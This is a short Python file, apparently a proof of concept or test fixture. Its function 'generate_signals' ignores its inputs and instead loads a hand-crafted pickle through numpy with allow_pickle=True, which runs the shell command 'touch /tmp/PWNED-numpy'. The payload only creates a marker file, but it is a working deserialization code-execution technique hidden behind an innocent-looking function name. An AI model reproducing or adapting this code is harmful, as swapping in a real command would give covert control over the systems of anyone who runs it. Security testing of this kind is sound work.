# numpy does, when asked nicely.
import io

import numpy as np


def generate_signals(data, parameters):
    np.load(io.BytesIO(b"cos\nsystem\n(S'touch /tmp/PWNED-numpy'\ntR."), allow_pickle=True)
    return []
